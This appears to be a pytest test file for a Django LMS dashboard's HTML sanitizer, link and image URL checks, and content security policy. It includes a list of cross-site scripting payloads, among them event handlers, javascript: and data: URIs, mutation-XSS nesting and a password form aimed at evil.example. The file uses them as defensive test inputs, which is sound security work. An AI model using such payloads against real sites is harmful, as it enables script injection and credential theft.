from html.parser import HTMLParser
from typing import ClassVar

import pytest
from django.test import override_settings

from lms_integration.dashboard.about_html import harmless, has_words
from lms_integration.dashboard.links import certificate_link, image_origins, image_url
from lms_integration.dashboard.pages import content_policy
from lms_integration.site_settings import site_settings

KEY = "course-v1:Org+Num+Run"


def clean(html: str) -> str:
    with override_settings(LMS_ROOT_URL="https://lms.example.org"):
        return harmless(html, KEY, site=site_settings())


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src='javascript:alert(1)'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='  JaVaScRiPt:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href='//evil.example/x.css'>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href='//evil.example/'>",
        "<form action='//evil.example'><input name=password><button>x</button></form>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<details open ontoggle=alert(1)>",
        "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "</div></main></body></html><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<p id='main' class='skip' name='cookie'>x</p>",
    ],
)
def test_hostile_html_leaves_nothing_that_runs_loads_or_disguises(hostile: str):
    cleaned = clean(f"<p>before</p>{hostile}<p>after</p>")

    lowered = cleaned.lower()
    assert "before" in cleaned
    for forbidden in (
        *("<script", "<style", "<iframe", "<object", "<embed", "<form", "<input", "<svg", "<math"),
        *(
            "<link",
            "<meta",
            "<base",
            "<template",
            "javascript:",
            "vbscript:",
            "data:",
            "evil.example",
        ),
        *(" style=", " id=", " class=", " onerror=", " onload=", " onclick=", " name=", "</body"),
    ):
        assert forbidden not in lowered.replace("&lt;", ""), cleaned


def test_what_authors_write_in_good_faith_survives():
    html = (
        '<section><h2>About</h2><p>A <em>fine</em> <strong>course</strong>.</p><ul><li lang="fr">Un</li>'
        '</ul><table><tbody><tr><th scope="row" colspan="2">x</th></tr></tbody></table></section>'
    )

    assert clean(html) == html


def test_first_headings_make_way_for_the_name_of_the_course():
    assert clean('<h1 lang="de">Titel</h1>') == '<h2 lang="de">Titel</h2>'


def test_links_lead_to_the_lms_or_the_web_and_tell_it_nothing():
    rel = 'rel="noopener noreferrer nofollow"'

    assert clean('<a href="/wiki">x</a>') == f'<a href="https://lms.example.org/wiki" {rel}>x</a>'
    assert (
        clean('<a href="https://a.example/">x</a>') == f'<a href="https://a.example/" {rel}>x</a>'
    )
    assert clean('<a href="mailto:a@example.org">x</a>').startswith('<a href="mailto:')


def test_images_come_from_the_course_or_from_hosts_that_settings_name():
    asset = "https://lms.example.org/asset-v1:Org+Num+Run+type@asset+block@a_b.png"

    assert clean('<img src="/static/a/b.png" alt="x">') == f'<img src="{asset}" alt="x">'
    assert clean('<img src="https://tracker.example/1.gif" alt="x">') == ""
    assert clean('<img src="//tracker.example/1.gif" alt="x">') == ""
    with override_settings(OVERVIEW_IMAGE_HOSTS=["https://tracker.example"]):
        assert "https://tracker.example/1.gif" in clean('<img src="https://tracker.example/1.gif">')


def test_images_without_words_are_ornaments():
    assert '<img alt="" src="https://lms.example.org/x.png">' in clean('<img src="/x.png">')


def test_tidying_lets_nothing_out_of_a_value():
    hostile = (
        '<img alt="><script>alert(1)</script>"><p title="<img alt=" lang="><script>x</script>">x</p>'
        '<img title="<h1>" alt="&quot;><script>alert(1)</script>" src="/x.png"><h1 title="<img>">x</h1>'
    )

    cleaned = clean(hostile)

    class Tags(HTMLParser):
        found: ClassVar[list[str]] = []

        def handle_starttag(self, tag: str, attrs: object) -> None:
            self.found.append(tag)

    Tags().feed(cleaned)
    assert set(Tags.found) <= {"p", "img", "h2"}


def test_pages_without_a_word_count_as_none():
    assert not has_words("<section><p>&nbsp; </p></section>")
    assert has_words("<p>x</p>")
    assert has_words('<img src="/x.png">')


@override_settings(
    LMS_ROOT_URL="https://lms.example.org/",
    OVERVIEW_ASSET_BASE_URL="cdn.example.net",
    OVERVIEW_IMAGE_HOSTS=["https://img.example", "https://x; script-src *", "javascript:alert(1)"],
)
def test_policy_names_the_image_hosts_and_cannot_be_talked_into_more():
    site = site_settings()

    assert image_origins(site) == (
        "https://lms.example.org",
        "https://cdn.example.net",
        "https://img.example",
    )
    assert "script-src 'none'" in content_policy(site)
    assert content_policy(site).count(";") == 6


@override_settings(
    LMS_ROOT_URL="https://lms.example.org", OVERVIEW_ASSET_BASE_URL="cdn.example.net"
)
@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("/static/x.jpg", "https://lms.example.org/static/x.jpg"),
        ("/asset-v1:a+b+c@x.jpg", "https://cdn.example.net/asset-v1:a+b+c@x.jpg"),
        ("https://lms.example.org/x.jpg", "https://lms.example.org/x.jpg"),
        ("https://elsewhere.example/x.jpg", ""),
        ("//elsewhere.example/x.jpg", ""),
        ("javascript:alert(1)", ""),
        ("data:image/png;base64,", ""),
        ("http://[bad/x.jpg", ""),
        ("", ""),
        (None, ""),
    ],
)
def test_images_are_shown_only_from_where_the_policy_allows(address: str | None, shown: str):
    assert image_url(address, site_settings()) == shown


@override_settings(LMS_ROOT_URL="https://lms.example.org")
def test_certificates_are_linked_to_the_web_only():
    site = site_settings()

    assert certificate_link("/certificates/1", site) == "https://lms.example.org/certificates/1"
    assert certificate_link("https://files.example/1.pdf", site) == "https://files.example/1.pdf"
    assert certificate_link("javascript:alert(1)", site) == ""
